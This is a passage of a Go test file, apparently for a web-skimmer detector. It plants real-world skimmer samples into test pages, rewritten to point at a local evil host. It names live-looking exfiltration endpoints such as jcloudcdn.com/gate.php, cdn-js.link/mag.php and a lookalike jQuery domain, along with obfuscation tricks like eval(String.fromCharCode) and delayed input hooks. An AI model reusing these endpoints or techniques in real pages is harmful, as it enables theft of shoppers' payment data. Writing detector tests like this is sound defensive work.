				code := mustReplace(t, gate, "https://jcloudcdn.com/gate.php?token=KjsS29Msl&host=grownuphydroponics.com", p.EvilBase+"/gate.php?token=KjsS29Msl&host=shop.test")
				p.Body = template.HTML(code)
			},
			want: []skimguard.Kind{skimguard.KindScriptAdded, skimguard.KindDataExfiltration},
		},
		{
			name: "corpus-zs-mk", threat: "corpus zs.mk: image-beacon exfiltration of cookies and location",
			base: direct,
			plant: func(p *page) {
				p.Body = script(mustReplace(t, zsmk, "http://zs.mk/", p.EvilBase+"/"))
			},
			want:  []skimguard.Kind{skimguard.KindScriptAdded, skimguard.KindConnectionAdded},
			fires: fireRequest,
		},
		{
			name: "corpus-cdn-js-link", threat: "corpus cdn-js.link.js: hex string-array obfuscation, 5 s delay, fires on input",
			// The kit listens only 5 s after it runs; a shopper's paced
			// typing ends by the last quarter of the window, so the window
			// leaves it room after those 5 s on a busy machine too.
			base: magento, wait: 10 * time.Second,
			plant: func(p *page) {
				code := mustReplace(t, cdnjs, hexEscape("https://cdn-js.link/mag.php"), hexEscape(p.EvilBase+"/mag.php"))
				p.Head = template.HTML(`<script src="` + p.EvilBase + `/cdn-js.js"></script>`)
				p.EvilFiles["/cdn-js.js"] = code
			},
			want:     []skimguard.Kind{skimguard.KindScriptAdded, skimguard.KindDataExfiltration},
			subjects: []string{"/cdn-js.js"},
		},
		{
			name: "corpus-amasty-onepage", threat: "corpus amasty.biz: eval(String.fromCharCode(...)), setTimeout(string) loop, on onepage URLs",
			base: direct,
			plant: func(p *page) {
				code := mustReplace(t, amasty, fromCharCodes("https://amasty.biz/lib/paypal_icon.jpg"), fromCharCodes(p.EvilBase+"/lib/paypal_icon.jpg"))
				p.Body = template.HTML(code)
			},
			want:  []skimguard.Kind{skimguard.KindScriptAdded},
			fires: fireNothing,
		},
		{
			name: "corpus-megalith", threat: "corpus megalith-games.com.js: rewrites the pay button's onclick, exfiltrates through a hidden iframe",
			base: magento,
			plant: func(p *page) {
				p.Body = template.HTML(mustReplace(t, megalith, "http://megalith-games.com/log.php", p.EvilBase+"/log.php"))
			},
			want:  []skimguard.Kind{skimguard.KindScriptAdded},
			fires: fireNothing,
		},
		{
			name: "corpus-vintagecollection", threat: "corpus vintagecollection.ch.js: once-per-visitor cookie, lookalike jQuery domain",
			base: direct,
			plant: func(p *page) {
				p.Head = template.HTML(`<script src="` + p.EvilBase + `/jquery.min.js"></script>`)
				p.EvilFiles["/jquery.min.js"] = mustReplace(t, vintage, "https://jquery-main.su/jquery.min.js", p.EvilBase+"/jquery.min.js")
			},
			want:     []skimguard.Kind{skimguard.KindScriptAdded},
			subjects: []string{"/jquery.min.js"},
			fires:    fireNothing,
		},
	}, ""
}

// fromCharCodes writes s as the comma-separated char codes the amasty
// sample's String.fromCharCode call takes.
func fromCharCodes(s string) string {
	parts := make([]string, len(s))
	for i, c := range []byte(s) {
		parts[i] = fmt.Sprint(c)
	}
	return strings.Join(parts, ",")
}
